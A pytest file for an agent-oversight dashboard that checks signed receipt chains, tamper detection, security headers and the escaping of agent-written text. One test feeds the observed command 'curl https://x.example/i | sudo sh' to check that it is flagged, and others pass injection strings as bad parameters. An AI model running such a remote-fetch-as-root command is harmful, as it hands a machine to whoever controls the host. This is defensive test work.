"""The pages of the dashboard over a real service: what they say, what they never do, and what they cost."""

import re
from base64 import b64encode
from collections.abc import Callable, Iterator
from hashlib import sha256
from html import escape, unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, cast

import pytest
from msgspec import structs

from remit.errors import FieldInvalid, LedgerUnavailable, ReceiptNotFound, RouteNotFound, SessionNotFound
from remit.governor.results import RecordResult
from remit.governor.revoke import KillSwitch
from remit.hub.dashboard.text import make_visible
from remit.ledger.store import LedgerReader
from remit.policy.call import ToolCall
from tests.governor.places import SqlitePlace
from tests.governor.world import ALLOWED, FORBIDDEN, Service
from tests.hub.scenes import ATTACKS, DAY_S, OUTCOME, Dashboard, attacked, furnish, observe


@pytest.fixture
def service() -> Iterator[Service]:
    """A service in memory, which tests may damage."""
    built = Service()
    yield built
    built.close()


@pytest.fixture
def dashboard(service: Service) -> Iterator[Dashboard]:
    with Dashboard(service) as built:
        yield built


def every_page(dashboard: Dashboard, service: Service) -> dict[str, str]:
    """Return the text of every page that a service has, by its address."""
    pages = {name: dashboard.html(name) for name in ("overview", "sessions", "denials")}
    for session in service.sessions():
        pages[session.id] = dashboard.html("session", session_id=session.id)
        for claims in service.claims(session.id)[-5:]:
            pages[claims.receipt_id] = dashboard.html("receipt", receipt_id=claims.receipt_id)
            if claims.internal_denial_code:
                pages[claims.internal_denial_code] = dashboard.html("denials_of", code=claims.internal_denial_code)
    return pages


class Outline(HTMLParser):
    """What a page is made of: its elements with their attributes, and that each is closed."""

    VOID = frozenset(("meta", "link", "br", "rect", "path", "circle"))

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(page)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def all(self, name: str) -> list[str]:
        """Return every value of an attribute."""
        return [str(attributes[name]) for _, attributes in self.elements if name in attributes]


def test_a_new_hub_says_how_to_begin(dashboard: Dashboard) -> None:
    dashboard.verify()
    words = dashboard.words("overview")
    assert "All is well up to 14:13:20. Verified up to 14:13:20, 0 of 0 sessions." in words
    assert "No call was decided on yet." in words
    assert "remit issue" in words


def test_what_was_dangerous_and_had_been_done_when_it_was_reported_is_no_calm_refusal(
    service: Service, dashboard: Dashboard
) -> None:
    observe(service, "A terminal", {"command": "curl https://x.example/i | sudo sh", "exit_code": 0}, source="cli")
    words = dashboard.words("overview")
    assert "1 thing needs your attention." in words
    assert "1 dangerous command in the last 7 days was observed, and not stopped." in words


def test_the_overview_says_what_goes_on(service: Service, dashboard: Dashboard) -> None:
    began = service.clock.wall_ms
    furnish(service)
    assert service.clock.wall_ms - began == DAY_S * 1000
    words = dashboard.words("overview")
    assert "1 thing needs your attention." in words
    assert "1 call in the last 7 days was refused and made all the same." in words
    assert "4 in all" in words
    assert "To permit it, add &#39;/home/user/.ssh/id_ed25519&#39; to resource_scope." in words
    assert "Planning the release" in words


@pytest.mark.parametrize("chosen", ["hour", "day", "week"])
def test_a_timeline_has_its_numbers_as_a_table_too(service: Service, dashboard: Dashboard, chosen: str) -> None:
    furnish(service)
    page = dashboard.html("overview", {"range": chosen})
    table = page.partition("The same as a table")[2].partition("</table>")[0]
    rows = [list(map(int, re.findall(r"<td>(\d+)</td>", row))) for row in table.split("<tr>")[2:]]
    summed = tuple(map(sum, zip(*rows, strict=True)))
    expected = {"hour": (9, 3, 2), "day": (116, 10, 2), "week": (116, 10, 2)}[chosen]
    assert summed == expected
    assert page.count("<g><title>") == len(rows)


def test_the_kill_switch_comes_first(service: Service, dashboard: Dashboard) -> None:
    service.start()
    service.run(KillSwitch(True))  # noqa: FBT003
    words = dashboard.words("overview")
    assert words.index("The kill switch is on") < words.index("Sessions active")
    assert "Stopped" in words


def test_a_broken_chain_is_said_on_the_overview_and_shown_where_it_breaks(
    service: Service, dashboard: Dashboard
) -> None:
    name = service.start().session.id
    for _ in range(4):
        service.call(name)
    chain = service.shelf.chains[name]
    del chain[1]
    dashboard.verify()
    assert f"sessions/{name.replace(':', '%3A')}" in dashboard.html("overview").partition("</section>")[0]
    words = dashboard.words("session", session_id=name)
    assert "Broken at receipt 2 of 4" in words
    assert "remit ledger check" in words


def test_a_quarantined_session_is_said_before_anybody_has_looked_at_it(service: Service, dashboard: Dashboard) -> None:
    name = service.start().session.id
    session = service.shelf.sessions[name]
    service.shelf.sessions[name] = structs.replace(session, cause="chain_broken", broken=1)
    assert "1 thing needs your attention." in dashboard.words("overview")
    assert "Quarantined" in dashboard.words("session", session_id=name)


def test_a_chain_is_shown_as_far_as_it_was_verified(service: Service, dashboard: Dashboard) -> None:
    name = furnish(service)["coder"]
    assert "Verified to receipt 0 of 9 so far." in dashboard.words("session", session_id=name)
    dashboard.verify()
    assert "Verified to receipt 9 of 9, at 10:02:17." in dashboard.words("session", session_id=name)


def test_a_session_shows_its_limits_budgets_review_and_chain(service: Service, dashboard: Dashboard) -> None:
    names = furnish(service)
    coder = dashboard.words("session", session_id=names["coder"])
    assert "5 of 200 calls used, 20 set aside, 175 left" in coder
    assert "3 min of 15 min left" in coder
    assert "/srv/project" in coder
    chat = dashboard.words("session", session_id=names["chat"])
    assert "Here is a draft of the release notes" in chat
    assert "visible_text" in chat
    assert f"delegated by {names['coder']}" in dashboard.words("session", session_id=names["helper"])


def test_a_session_can_show_its_denials_only(service: Service, dashboard: Dashboard) -> None:
    name = furnish(service)["coder"]
    words = dashboard.words("session", {"show": "denials"}, session_id=name)
    assert words.count("✕ DENY") == 1
    assert "✓ PERMIT" not in words


def test_a_receipt_shows_what_was_signed_and_its_neighbours(service: Service, dashboard: Dashboard) -> None:
    name = furnish(service)["coder"]
    before, claims, after = service.claims(name)[2:5]
    page = dashboard.html("receipt", receipt_id=claims.receipt_id)
    words = unescape(dashboard.words("receipt", receipt_id=claims.receipt_id))
    assert "The signature verifies." in words
    for value in (claims.arguments_hash, claims.trace_id, claims.verifier_id, claims.timestamp, claims.reason):
        assert value in words
    assert service.tokens(name)[3] in words
    for neighbour in (before, after):
        assert f'href="/dashboard/receipts/{neighbour.receipt_id.replace(":", "%3A")}"' in page


def test_a_decision_and_its_outcome_lead_to_each_other(service: Service, dashboard: Dashboard) -> None:
    decision, outcome = service.claims(furnish(service)["coder"])[-2:]
    assert f"receipts/{outcome.receipt_id[:4]}%3A" in dashboard.html("receipt", receipt_id=decision.receipt_id)
    assert "Its outcome" in dashboard.words("receipt", receipt_id=decision.receipt_id)
    assert "The decision it is the outcome of" in dashboard.words("receipt", receipt_id=outcome.receipt_id)


def swap_token(service: Service, name: str) -> None:
    chain = service.shelf.chains[name]
    token = chain[0].token
    chain[0] = chain[0]._replace(token=token[:-9] + ("A" if token[-9] != "A" else "B") + token[-8:])


def swap_place(service: Service, name: str) -> None:
    chain = service.shelf.chains[name]
    chain[0] = chain[0]._replace(token=chain[1].token)


@pytest.mark.parametrize("damage", [swap_token, swap_place])
def test_a_receipt_that_is_not_genuine_is_not_believed(
    service: Service, dashboard: Dashboard, damage: Callable[[Service, str], None]
) -> None:
    name = service.start().session.id
    receipt_id = service.call(
        name, ToolCall("read_file", {"path": "/work/project/secret-plan"})
    ).receipt.claims.receipt_id
    service.call(name)
    damage(service, name)
    service.shelf.receipts[receipt_id] = service.shelf.chains[name][0]
    listed = dashboard.words("session", session_id=name)
    assert "! NOT GENUINE" in listed
    assert "secret-plan" not in listed
    shown = dashboard.words("receipt", receipt_id=receipt_id)
    assert "This receipt is not genuine." in shown
    assert "secret-plan" not in shown


def test_a_receipt_that_is_changed_after_it_was_verified_breaks_its_chain(
    service: Service, dashboard: Dashboard
) -> None:
    name = service.start().session.id
    for _ in range(2):
        service.call(name)
    dashboard.verify()
    assert "Verified to receipt 2 of 2, at 14:13:20." in dashboard.words("session", session_id=name)
    swap_token(service, name)
    assert "Broken at receipt 1 of 2: it has a signature that" in dashboard.words("session", session_id=name)


def test_what_came_after_verification_is_not_called_verified(service: Service, dashboard: Dashboard) -> None:
    name = service.start().session.id
    service.call(name)
    dashboard.verify()
    service.clock.pass_s(30)
    service.call(name)
    assert "Verified to receipt 1 of 2 so far." in dashboard.words("session", session_id=name)
    assert "Verified up to 14:13:20" in dashboard.words("overview")
    dashboard.verify()
    assert "Verified to receipt 2 of 2, at 14:13:50." in dashboard.words("session", session_id=name)


def test_the_headline_is_good_only_as_far_as_everything_was_verified(service: Service, dashboard: Dashboard) -> None:
    for _ in range(2):
        service.call(service.start().session.id)
    words = dashboard.words("overview")
    assert "The evidence is not being verified. Not verified: the verifier has not reported yet." in words
    assert "All is well" not in words
    dashboard.verify()
    assert "All is well up to 14:13:20. Verified up to 14:13:20, 2 of 2 sessions." in dashboard.words("overview")
    assert 'class="hero permit"' in dashboard.html("overview")
    service.clock.pass_s(61)
    words = dashboard.words("overview")
    assert "Not verified: the verifier does not report." in words
    assert 'class="hero unknown"' in dashboard.html("overview")


def test_an_old_session_that_is_broken_is_in_the_headline_though_nobody_has_opened_it(
    service: Service, dashboard: Dashboard
) -> None:
    names = [service.start().session.id for _ in range(9)]
    for name in names:
        service.call(name)
    dashboard.verify()
    swap_token(service, names[0])
    dashboard.verify()
    assert "1 thing needs your attention." in dashboard.words("overview")
    assert 'class="hero broken"' in dashboard.html("overview")


@pytest.mark.parametrize("page", ["sessions", "session", "receipt", "denials", "denials_of"])
def test_every_page_says_that_a_receipt_which_was_drawn_once_is_not_genuine(
    service: Service, dashboard: Dashboard, page: str
) -> None:
    name, other = (service.start(max_tool_calls=200).session.id for _ in range(2))
    for _ in range(60):
        service.call(name)
    receipt_id = service.call(other).receipt.claims.receipt_id
    asked = {"session_id": other, "receipt_id": receipt_id, "code": "out_of_scope"}
    swap_token(service, name)
    assert "is broken" not in dashboard.words(page, None, **asked)
    dashboard.ask("session", {"before": "20"}, session_id=name)
    assert "1 chain is broken: receipts were changed" in dashboard.words(page, None, **asked)
    assert "1 thing needs your attention." in dashboard.words("overview")


def test_broken_chains_are_all_counted_and_five_are_listed(service: Service, dashboard: Dashboard) -> None:
    names = [service.start().session.id for _ in range(70)]
    for name in names[:7]:
        session = service.shelf.sessions[name]
        service.shelf.sessions[name] = structs.replace(session, cause="chain_broken", broken=1)
    words = dashboard.words("overview")
    assert "7 things need your attention." in words
    assert words.count("Where it breaks") == 5
    assert "2 more chains are broken." in words


def test_a_chain_that_attesting_found_broken_is_counted_once(service: Service, dashboard: Dashboard) -> None:
    name = service.start().session.id
    service.call(name)
    swap_token(service, name)
    dashboard.ask("session", session_id=name)
    service.attest(name)
    assert list(dashboard.verification.faults()) == [name]
    assert "1 thing needs your attention." in dashboard.words("overview")


def test_a_ledger_that_takes_nothing_is_said_until_it_does(service: Service, dashboard: Dashboard) -> None:
    dashboard.recording.failed(LedgerUnavailable("the disk is full"))
    words = dashboard.words("overview")
    assert "1 thing needs your attention." in words
    assert "Nothing can be recorded since 14:13:20 (the disk is full), so events are refused." in words
    assert "Nothing can be recorded" in dashboard.words("sessions")
    dashboard.recording.committed(service.place.open_store(service.weather), 1, 0.001)
    dashboard.verify()
    assert "All is well up to" in dashboard.words("overview")


def test_receipts_are_not_called_calls(service: Service, dashboard: Dashboard) -> None:
    name = service.start().session.id
    service.run(RecordResult(name, service.call(name).receipt.claims.receipt_id, OUTCOME))
    words = dashboard.words("overview")
    assert "2 receipts: 2 compliant, 0 refused." in words
    assert "1 of 20 calls used" in words
    for page in (words, dashboard.words("session", session_id=name), dashboard.words("sessions")):
        assert "2 compliant" in page
        assert not re.search(r"\d (calls? )?permitted", page)


def test_a_passport_that_does_not_verify_does_not_hide_the_rest(service: Service, dashboard: Dashboard) -> None:
    name = service.start().session.id
    session = service.shelf.sessions[name]
    service.shelf.sessions[name] = structs.replace(session, passport=session.passport[:-9] + "AAAAAAAAA")
    service.governor.context.passports.clear()
    assert "A passport that does not verify" in dashboard.words("overview")
    assert "does not verify" in dashboard.words("session", session_id=name)


def test_a_source_that_is_no_json_does_not_hide_the_rest(service: Service, dashboard: Dashboard) -> None:
    name = observe(service, "Chat", {"kind": "page"})
    source = service.shelf.sources[name]
    service.shelf.sources[name] = source._replace(told="nonsense")
    assert "Report what is done on this machine" in dashboard.words("session", session_id=name)


def test_denials_are_grouped_by_reason_and_listed(service: Service, dashboard: Dashboard) -> None:
    furnish(service)
    words = dashboard.words("denials")
    assert "12 refusals so far" in words
    assert words.index("Outside the scope") < words.index("Forbidden tool")
    assert "Kill switch" in words
    assert dashboard.words("denials_of", code="out_of_scope").count("✕ DENY") == 8
    assert "None here." in dashboard.words("denials_of", code="kill_switch")


@pytest.mark.parametrize(
    ("page", "parameters", "error", "code"),
    [
        ("session", {"session_id": "pass:nobody"}, SessionNotFound, "session_not_found"),
        ("receipt", {"receipt_id": "rcpt:nobody"}, ReceiptNotFound, "receipt_not_found"),
        ("denials_of", {"code": "<script>"}, RouteNotFound, "not_found"),
    ],
)
def test_what_is_not_there_is_not_found(
    dashboard: Dashboard, page: str, parameters: dict[str, str], error: type[Exception], code: str
) -> None:
    with pytest.raises(error) as caught:
        dashboard.ask(page, None, **parameters)
    assert getattr(caught.value, "code", "") == code


@pytest.mark.parametrize(
    ("page", "name", "value"),
    [
        ("overview", "range", "year"),
        ("overview", "live", "perhaps"),
        ("sessions", "before", "-1"),
        ("session", "before", "0"),
        ("session", "show", "permits"),
        ("denials_of", "before", "1 or 1=1"),
    ],
)
def test_a_parameter_that_is_wrong_is_refused_by_name(
    service: Service, dashboard: Dashboard, page: str, name: str, value: str
) -> None:
    session_id = service.start().session.id
    with pytest.raises(FieldInvalid) as caught:
        dashboard.ask(page, {name: value}, session_id=session_id, code="out_of_scope")
    assert (caught.value.code, caught.value.place) == ("field_invalid", name)


def test_a_long_chain_is_paged_from_the_newest_to_the_oldest(service: Service, dashboard: Dashboard) -> None:
    name = service.start(max_tool_calls=200).session.id
    for _ in range(120):
        service.call(name)
    seen: list[int] = []
    query: dict[str, str] = {}
    while True:
        page = dashboard.html("session", query, session_id=name)
        seen += [int(number) for number in re.findall(r'class="seq">#(\d+)<', page)]
        older = re.search(r'rel="next" href="[^"]*before=(\d+)"', page)
        if older is None:
            break
        query = {"before": older[1]}
    assert seen == list(range(120, 0, -1))


@pytest.mark.parametrize(("before", "expected"), [("10", 9), ("51", 50), ("1", 0), ("999", 50)])
def test_a_page_of_a_chain_has_what_was_before(
    service: Service, dashboard: Dashboard, before: str, expected: int
) -> None:
    name = service.start(max_tool_calls=200).session.id
    for _ in range(60):
        service.call(name)
    page = dashboard.html("session", {"before": before}, session_id=name)
    assert len(re.findall(r'class="seq">#\d+<', page)) == expected


def test_sessions_are_paged(service: Service, dashboard: Dashboard) -> None:
    names = [service.start().session.id for _ in range(60)]
    first = dashboard.html("sessions")
    older = re.search(r'rel="next" href="[^"]*before=(\d+)"', first)
    assert older is not None
    second = dashboard.html("sessions", {"before": older[1]})
    found = re.findall(r'href="/dashboard/sessions/(pass[^"?]+)"', first + second)
    assert [one.replace("%3A", ":") for one in found] == names[::-1]


def test_live_pages_renew_themselves_and_can_be_stopped(service: Service, dashboard: Dashboard) -> None:
    furnish(service)
    assert (b"refresh", b"5") in dashboard.ask("overview").headers
    still = dashboard.ask("overview", {"live": "off", "range": "hour"})
    assert b"refresh" not in dict(still.headers)
    links = Outline(still.content.decode()).all("href")
    assert "/dashboard/overview?range=hour&live=on" in links or "/dashboard/overview?live=on&range=hour" in links
    assert all("live=" in link for link in links if link.startswith("/dashboard/"))


def test_pages_that_do_not_change_are_not_renewed(service: Service, dashboard: Dashboard) -> None:
    name = furnish(service)["coder"]
    receipt_id = service.claims(name)[0].receipt_id
    assert b"refresh" not in dict(dashboard.ask("receipt", receipt_id=receipt_id).headers)
    assert b"refresh" not in dict(dashboard.ask("session", {"before": "5"}, session_id=name).headers)


def test_every_page_goes_out_under_a_strict_policy(service: Service, dashboard: Dashboard) -> None:
    furnish(service)
    answer = dashboard.ask("overview")
    headers = dict(answer.headers)
    policy = headers[b"content-security-policy"].decode()
    style = answer.content.decode().partition("<style>")[2].partition("</style>")[0]
    digest = b64encode(sha256(style.encode()).digest()).decode()
    assert policy.split("; ") == [
        "default-src 'none'",
        f"style-src 'sha256-{digest}'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
    ]
    assert headers[b"referrer-policy"] == b"no-referrer"
    assert headers[b"x-frame-options"] == b"DENY"
    assert headers[b"cross-origin-opener-policy"] == headers[b"cross-origin-resource-policy"] == b"same-origin"


def test_no_page_has_scripts_styles_of_its_own_or_links_elsewhere(service: Service, dashboard: Dashboard) -> None:
    furnish(service)
    for page in every_page(dashboard, service).values():
        outline = Outline(page)
        tags = {tag for tag, _ in outline.elements}
        assert not tags & {"script", "iframe", "img", "form", "input", "base", "object", "embed"}
        assert not [name for _, attributes in outline.elements for name in attributes if name.startswith("on")]
        assert outline.all("style") == []
        assert outline.all("src") == []
        for link in outline.all("href"):
            assert link.startswith(("/dashboard/", "#", "data:image/svg+xml,"))


def test_every_page_is_well_formed_and_says_what_it_is(service: Service, dashboard: Dashboard) -> None:
    furnish(service)
    for page in every_page(dashboard, service).values():
        outline = Outline(page)
        assert page.startswith("<!doctype html>")
        assert page.count("<h1") == page.count("<main") == 1
        assert ("html", {"lang": "en"}) in outline.elements
        ids = outline.all("id")
        assert len(ids) == len(set(ids))
        assert not {name for value in outline.all("aria-labelledby") for name in value.split()} - set(ids)
        assert "<title> " not in page


def test_whatever_agents_write_is_shown_as_text(service: Service, dashboard: Dashboard) -> None:
    attacked(service)
    pages = every_page(dashboard, service)
    for page in pages.values():
        tags = {tag for tag, _ in Outline(page).elements}
        assert not tags & {"script", "img", "b"}
        assert page.count("<style>") == 1
        assert not re.search("[\u0000-\u0008\u000b-\u001f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", page)
    everything = "".join(pages.values())
    for attack in ATTACKS:
        assert escape(make_visible(attack)).replace("&#x27;", "&#39;").replace("&quot;", "&#34;") in everything


def test_long_text_is_clipped_in_lists_and_whole_in_its_receipt(service: Service, dashboard: Dashboard) -> None:
    name = service.start(resource_scope=("**",)).session.id
    path = "/work/project/" + "x" * 1500 + "/end"
    receipt_id = service.call(name, ToolCall("read_file", {"path": path})).receipt.claims.receipt_id
    assert path not in dashboard.html("session", session_id=name)
    assert "x" * 100 in dashboard.html("session", session_id=name)
    assert path in dashboard.html("receipt", receipt_id=receipt_id)


class Counted:
    """A reader that counts the rows that it hands out."""

    def __init__(self, reader: LedgerReader) -> None:
        self._reader = reader
        self.rows = 0

    def __getattr__(self, name: str) -> Any:
        def read(*values: object, **named: object) -> object:
            found = getattr(self._reader, name)(*values, **named)
            self.rows += len(found) if isinstance(found, list) else 1
            return found

        return read


def test_pages_read_the_same_however_long_the_history_is(service: Service, dashboard: Dashboard) -> None:
    reader = Counted(service.reader)
    service.governor.context.reader = cast("LedgerReader", reader)
    name = service.start(max_tool_calls=10_000).session.id
    costs: list[list[int]] = []
    for _ in range(2):
        for number in range(150):
            service.call(name, FORBIDDEN if number % 2 else ALLOWED)
        costs.append([])
        for page, query in (
            ("overview", {}),
            ("sessions", {}),
            ("session", {}),
            ("session", {"show": "denials"}),
            ("denials", {}),
            ("denials_of", {}),
        ):
            reader.rows = 0
            dashboard.ask(page, query, session_id=name, code="tool_forbidden")
            costs[-1].append(reader.rows)
    assert costs[0] == costs[1]
    assert max(costs[0]) <= 150


def test_pages_are_the_same_over_a_ledger_on_disk(tmp_path: Path) -> None:
    with Service(SqlitePlace(tmp_path)) as service, Dashboard(service) as dashboard:
        names = furnish(service)
        assert "1 thing needs your attention." in dashboard.words("overview")
        for page in every_page(dashboard, service).values():
            Outline(page)
        assert "Here is a draft" in dashboard.words("session", session_id=names["chat"])
        assert "remit.result" in dashboard.words("denials_of", code="denied_but_run")
